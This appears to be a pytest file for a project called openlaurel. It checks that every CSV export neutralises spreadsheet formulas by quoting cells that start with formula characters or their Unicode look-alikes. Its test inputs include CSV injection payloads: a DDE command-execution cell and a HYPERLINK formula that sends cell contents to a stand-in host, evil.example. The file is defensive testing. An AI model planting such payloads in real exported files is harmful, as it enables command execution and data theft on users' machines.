"""No cell of a CSV file that this program writes runs as a formula."""

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

import openlaurel
from openlaurel.core.csv_text import csv_lines, harmless

SOURCE = Path(openlaurel.__file__).parent
# The lists that people upload are read with it, and the demo world writes one to upload.
READS = {"core/rosters/workbook.py", "demo/rosters.py"}


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?x="&A1)',
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_a_formula_is_a_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"
    text = "".join(csv_lines(["name", "note"], [["Ana", cell], [cell, "Ana"]]))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows == [["name", "note"], ["Ana", f"'{cell}"], [f"'{cell}", "Ana"]]


@pytest.mark.parametrize("cell", ["", "Ana", "3 = 3", "a@b.example", "O'Brien", "Ana-Maria", "'=1", "1", " "])
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


def test_moments_and_nothing_have_one_form() -> None:
    lines = list(csv_lines(["at"], [[datetime(2026, 1, 2, 3, 4, 5, 678, tzinfo=UTC), None]]))
    assert lines[2] == "2026-01-02 03:04:05,\r\n"


def test_every_table_that_leaves_goes_this_way() -> None:
    writers = {
        str(file.relative_to(SOURCE)): file.read_text("utf-8")
        for file in SOURCE.rglob("*.py")
        if re.search(r"csv\.(?:Dict)?[wW]riter\(", file.read_text("utf-8"))
    }
    own = set(writers) - READS - {"core/csv_text.py"}
    assert own == {"cli/badge_files.py"}
    assert "harmless(str(cell)) for cell in cells" in writers["cli/badge_files.py"]
    served = [
        file
        for file in SOURCE.rglob("*.py")
        if re.search(r"content_type=\"text/csv", file.read_text("utf-8"))
    ]
    assert len(served) >= 6
    for file in served:
        answers = re.findall(r"Response\(\s*([\w.]+)", file.read_text("utf-8").replace("lines,", "lines_of("))
        assert any("lines" in answer or "csv" in answer for answer in answers), file
